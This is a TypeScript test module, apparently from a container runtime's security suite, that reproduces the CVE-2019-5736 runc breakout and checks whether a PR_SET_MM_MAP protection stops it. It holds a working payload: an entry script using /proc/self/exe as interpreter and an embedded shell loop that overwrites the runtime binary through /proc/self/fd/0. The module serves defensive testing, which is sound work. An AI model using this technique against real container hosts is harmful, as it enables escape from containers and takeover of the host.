/**
 * What if … the image's program is a script whose interpreter is /proc/self/exe? It is then run by
 * what the container was made with, keeps that file open, and writes into it when nobody runs it any
 * more. The file is a copy of this interpreter. CVE-2019-5736
 */
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import {
  chmodSync,
  closeSync,
  copyFileSync,
  mkdirSync,
  openSync,
  readFileSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { startContainer } from '../../lib/oci/life/start.ts';
import { sharedObjectsOf } from '../../lib/rootfs/dependencies.ts';
import { type Attack, lastLine } from './attack.ts';
import type { Scene } from './scene.ts';

/** Its standard input is the interpreter's file; a shell, that runs in its place, writes into it. */
const ATTACK = `
const fs = require('node:fs');
fs.closeSync(0);
fs.openSync('/proc/self/exe', 'r');
process.execve('/bin/sh', ['sh', '-c', \`
  i=0
  while [ $i -lt 50 ]; do
    printf overwritten 1<>/proc/self/fd/0 && break
    i=$((i+1)); sleep 0.1
  done
\`], { PATH: '/bin' });
`;

const digest = (path: string) => createHash('sha256').update(readFileSync(path)).digest('hex');

const ROUNDS = 80;

async function overwrite(scene: Scene, without: boolean) {
  const { directory, rootfs, root, id } = scene;
  const copy = join(directory, 'node');
  copyFileSync(process.execPath, copy);
  chmodSync(copy, 0o755);
  for (const { path } of await sharedObjectsOf(copy)) {
    mkdirSync(join(rootfs, dirname(path)), { recursive: true });
    copyFileSync(path, join(rootfs, path));
  }
  writeFileSync(join(rootfs, 'attack.js'), ATTACK);
  writeFileSync(join(rootfs, 'entry'), '#!/proc/self/exe /attack.js\n', { mode: 0o755 });
  scene.writeConfig(['/entry']);
  const before = digest(copy);
  try {
    const said = await create(scene, copy, without);
    await startContainer(root, id).catch(() => undefined);
    for (let round = 0; round < ROUNDS && digest(copy) === before; round++) await sleep(50);
    const changed = digest(copy) !== before;
    const error = lastLine(readFileSync(join(directory, 'stderr'), 'utf8'));
    return {
      succeeded: changed,
      seen: changed ? `its sha256 was ${before.slice(0, 8)}…, and is another` : error || said,
    };
  } finally {
    await scene.clear();
  }
}

async function create({ root, directory, id }: Scene, program: string, without: boolean) {
  const stderr = openSync(join(directory, 'stderr'), 'w');
  const script = join(import.meta.dirname, 'create-from.ts');
  const argv = [script, root, directory, id, ...(without ? ['--without'] : [])];
  const creator = spawn(program, argv, { stdio: ['ignore', 'ignore', stderr] });
  const [code] = await once(creator, 'exit');
  closeSync(stderr);
  return `create ended with ${code}`;
}

const selfExe: Attack = {
  title: 'overwrite the runtime’s own program through /proc/self/exe',
  protection: 'the process has left that program (PR_SET_MM_MAP)',
  needs: ['ldd'],
  attempt: (scene, guard) => overwrite(scene, guard === 'off'),
};

export const attacks: readonly Attack[] = [selfExe];
